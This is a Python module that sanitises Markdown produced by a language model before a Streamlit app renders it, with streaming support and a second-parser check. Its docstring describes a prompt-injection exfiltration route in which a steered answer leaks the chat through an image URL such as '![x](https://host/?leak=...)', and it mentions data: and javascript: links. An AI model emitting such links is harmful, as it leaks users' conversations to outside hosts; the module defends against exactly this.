"""Markdown from a model or a prompt that cannot phone out.

A Markdown image makes every viewer's browser fetch its URL, so an answer steered by
prompt injection could leak the chat into ``![x](https://host/?leak=...)``; a ``data:`` or
``javascript:`` link is one click from running content. ``sanitize_markdown`` rewrites the
text so that:

* an image is only kept when its host is on the operator's allow-list (``MarkdownPolicy``);
  any other image becomes a link naming its host, ``[🖼 alt (host)](url)`` (plain text
  when it is already inside a link or its URL is not plain http(s)), so nothing is fetched;
* only ``http(s)``, ``mailto`` and in-page ``#`` links stay clickable; any other link,
  reference definition or autolink is shown as text;
* code spans, math and fenced code blocks are left exactly as they are.

How it stays safe when its own reading of Markdown is imperfect: kept links and images are
written back in one canonical form; every ``!``, ``[``, ``]`` and ``<`` it does not vouch
for is backslash-escaped (which renders as the character itself). Only text it keeps as
written (code spans, math, fences) could then be read differently by another parser, so
whenever such text holds link syntax the result is parsed
again by an independent CommonMark parser (markdown-it-py). If that parse finds an image
or a link the policy forbids, or raw HTML, the text is escaped wholesale instead
(``escape_links``): no brackets, no links, no images.

``StreamingSanitizer`` does the same for an answer that streams into one Markdown element
which only ever grows: it holds back an unfinished ``![``/``[``/`` ` ``/``<`` construct at
the end of the text until it completes (or its block ends), so a construct split across
pieces is never shown unsanitised, not even for one update.

The scanner lives in ``markdown_scan.py``, the policy and URL rules in ``markdown_urls.py``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import TypeVar

from markdown_it import MarkdownIt

from .markdown_scan import IMAGE_MARK, Scan, TooComplex, find_definitions
from .markdown_urls import (
    SETTING,
    MarkdownPolicy,
    canonical_destination,
    decode_destination,
    link_allowed,
    strict_http_url,
)

NO_IMAGES = MarkdownPolicy()  # the default: no host may serve images


# ------------------------------------------------------------------ verification and fallback
def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # type: ignore[method-assign]  # see every link, whatever its scheme
    md.normalizeLink = lambda url: url  # type: ignore[method-assign]  # and exactly as written
    return md


# GFM reads "[^1]: text" as a footnote, never as a link definition; CommonMark would make "text"
# a link destination, so for the check these lines are made plain paragraphs (still checked).
_FOOTNOTE_DEFINITION = re.compile(r"^( {0,3})\[\^", re.MULTILINE)
_PARSER = _parser()  # stateless once built: markdown-it keeps no state between parse() calls


def forbidden_targets(markdown: str, policy: MarkdownPolicy) -> list[str]:
    """Every image a CommonMark reader would load, every link it would make, that the policy
    forbids, and any raw HTML (empty when ``markdown`` is safe to render)."""
    bad: list[str] = []
    stack = list(_PARSER.parse(_FOOTNOTE_DEFINITION.sub(r"\1\\[^", markdown)))
    while stack:
        token = stack.pop()
        if token.children:
            stack.extend(token.children)
        if token.type == "image":
            src = str(token.attrGet("src") or "")
            if not policy.image_allowed(src):
                bad.append(src)
        elif token.type == "link_open":
            href = str(token.attrGet("href") or "")
            if not link_allowed(href):
                bad.append(href)
        elif token.type in ("html_inline", "html_block"):
            bad.append(token.content)  # raw HTML: Streamlit shows it as text, but the scanner escapes every "<"
    return bad


_ESCAPE_WHOLESALE = re.compile(r"\\[!-/:-@\[-`{-~]|([!\[\]<])|((?i:xmpp)):")


def escape_links(text: str) -> str:
    """``text`` with every ``!``, ``[``, ``]`` and ``<`` escaped: no link, image, autolink or
    definition can form, whatever the reader (already escaped characters are left alone)."""
    def one(match: re.Match[str]) -> str:
        if match[1] is not None:
            return "\\" + match[1]
        if match[2] is not None:
            return match[2] + "\\:"
        return match[0]

    return _ESCAPE_WHOLESALE.sub(one, text)


def _may_link(text: str) -> bool:
    """Could ``text`` hold a link or an image at all? Without these the scanner changes nothing."""
    return "[" in text or "]" in text or "<" in text or "xmpp" in text.lower()


def sanitize_markdown(text: str, policy: MarkdownPolicy = NO_IMAGES) -> str:
    """``text`` rewritten so that rendering it loads no image from a host the policy does not
    allow and makes no link other than http(s)/mailto/#; code and math are left as written."""
    if not _may_link(text):
        return text
    scan = Scan(policy, final=True, definitions=tuple(find_definitions(text)), forward_refs=True)
    try:
        out, _, _ = scan.document(text)
    except TooComplex:
        return escape_links(text)
    if scan.risky and forbidden_targets(out, policy):
        return escape_links(text)
    return out


class StreamingSanitizer:
    """Sanitise one Markdown block that is shown while it grows (``st.write_stream``).

    ``feed`` returns the text to append now; ``end_block`` what was held back, when the
    block ends (the renderer starts a new element after it). What is appended is never
    taken back, so an unfinished construct at the end is held until it is complete."""

    def __init__(self, policy: MarkdownPolicy = NO_IMAGES) -> None:
        self.policy = policy
        self._text = ""  # the block's raw text so far
        self._shown = ""  # what was handed out for this block
        self._covered = 0  # how much of ``_text`` that covers
        self._wholesale = False  # the block fell back to escaping everything
        self._resume = (0, 0)  # scan from here: (position in the text, length of what was shown before it)
        self._risky = False  # code or math shown so far holds link syntax: check with the second parser

    def feed(self, piece: str) -> str:
        self._text += piece
        return self._advance(final=False)

    def end_block(self) -> str:
        rest = self._advance(final=True)
        self._text, self._shown, self._covered, self._wholesale = "", "", 0, False
        self._resume, self._risky = (0, 0), False
        return rest

    @property
    def held(self) -> str:
        """Raw text received but not shown yet."""
        return self._text[self._covered :]

    def _advance(self, *, final: bool) -> str:
        text = self._text
        if self._wholesale:
            return self._append(escape_links(text[self._covered :]), len(text))
        if not _may_link(text):  # unchanged by the scanner; only a last "!" may still start an image
            covered = len(text) - (0 if final or not text.endswith("!") else 1)
            return self._append(text[self._covered : covered], covered)
        scan = Scan(self.policy, final=final, definitions=tuple(find_definitions(text)), forward_refs=False)
        start, shown_before = self._resume
        try:
            tail, covered, boundary = scan.document(text, start)
            out = self._shown[:shown_before] + tail
        except TooComplex:
            out, covered, boundary = "\0", 0, None  # matches nothing shown: escaped wholesale below
        if self._shown.startswith(out) and not final:
            return ""  # holds back something already shown unchanged (before any "[" arrived)
        risky = self._risky or scan.risky
        if out.startswith(self._shown) and not (risky and forbidden_targets(out, self.policy)):
            self._risky = risky
            if boundary is not None:
                self._resume = (boundary[0], shown_before + boundary[1])
            return self._append(out[len(self._shown) :], covered)
        # Not expected; if it happens, what is shown stays shown (it was safe on its own) and the
        # rest of the block is escaped wholesale after a blank line, so that it cannot complete
        # a construct left open before it (a "[x]" followed by "(data:...)").
        self._wholesale = True
        return self._append("\n\n" + escape_links(text[self._covered :]), len(text))

    def _append(self, out: str, covered: int) -> str:
        self._shown += out
        self._covered = covered
        return out


T = TypeVar("T")


def sanitize_pieces(pieces: Iterable[str | T], policy: MarkdownPolicy = NO_IMAGES) -> Iterator[str | T]:
    """``st.write_stream`` pieces with their text sanitised as it streams.

    Text pieces accumulate into one Markdown element; any other piece (a callable that draws
    a panel or starts a new block) ends it, so the held-back text is released before it."""
    sanitizer = StreamingSanitizer(policy)
    for piece in pieces:
        if isinstance(piece, str):
            shown = sanitizer.feed(piece)
            if shown:
                yield shown
        else:
            rest = sanitizer.end_block()
            if rest:
                yield rest
            yield piece
    rest = sanitizer.end_block()
    if rest:
        yield rest


__all__ = [
    "IMAGE_MARK",
    "NO_IMAGES",
    "SETTING",
    "MarkdownPolicy",
    "StreamingSanitizer",
    "canonical_destination",
    "decode_destination",
    "escape_links",
    "forbidden_targets",
    "link_allowed",
    "sanitize_markdown",
    "sanitize_pieces",
    "strict_http_url",
]
